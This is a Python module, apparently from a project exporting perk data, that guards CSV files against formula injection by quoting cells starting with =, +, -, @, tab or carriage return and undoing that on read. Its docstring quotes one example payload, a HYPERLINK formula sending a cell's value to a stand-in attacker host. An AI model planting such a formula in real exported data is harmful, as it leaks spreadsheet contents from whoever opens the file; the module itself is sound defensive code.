"""Text cells that a spreadsheet opens as text, never as a formula (CSV injection).

A cell beginning with `=`, `+`, `-`, `@`, a tab or a carriage return is run as a formula by
Excel, LibreOffice and Google Sheets when a CSV is opened, so a perk title like
`=HYPERLINK("http://evil.example/?"&A1,"Click")` would act on the reader's machine. Every
CSV the project writes goes through `guard_frame`, every CSV it reads through
`unguard_frame`, and the pair is exact:

* a cell that would run (after any leading quotes) gets one `'` in front, the mark
  spreadsheets themselves use for "this is text"; reading removes exactly that one quote,
  so `'=x` (a value that really begins with a quote) is written `''=x` and read back as is;
* a plain number (`-5`, `+1.5e3`) is left alone: it is a number to every spreadsheet, and
  negative numbers stay numbers;
* any other text, quotes included (`'hello`), is written and read untouched.
"""

from __future__ import annotations

import polars as pl

__all__ = ["FORMULA_START", "guard_frame", "unguard_frame"]

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula."""

_RUNS = r"^'*[=+\-@\t\r]"  # would run as a formula, once any quotes in front are gone
_GUARDED = r"^'+[=+\-@\t\r]"  # as written by guard_frame: one of the quotes is ours
_NUMBER = r"^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$"


def _text_columns(frame: pl.DataFrame) -> list[str]:
    return [name for name, dtype in frame.schema.items() if dtype == pl.String]


def guard_frame(frame: pl.DataFrame) -> pl.DataFrame:
    """Text columns with every formula-like cell quoted, ready for `write_csv`."""
    exprs = []
    for name in _text_columns(frame):
        cell = pl.col(name)
        runs = cell.str.contains(_RUNS) & ~cell.str.contains(_NUMBER)
        exprs.append(pl.when(runs).then(pl.lit("'") + cell).otherwise(cell).alias(name))
    return frame.with_columns(exprs)


def unguard_frame(frame: pl.DataFrame) -> pl.DataFrame:
    """Undo `guard_frame` on a frame read from CSV as text: the one quote it added goes."""
    exprs = []
    for name in _text_columns(frame):
        cell = pl.col(name)
        guarded = cell.str.contains(_GUARDED)
        exprs.append(pl.when(guarded).then(cell.str.slice(1)).otherwise(cell).alias(name))
    return frame.with_columns(exprs)
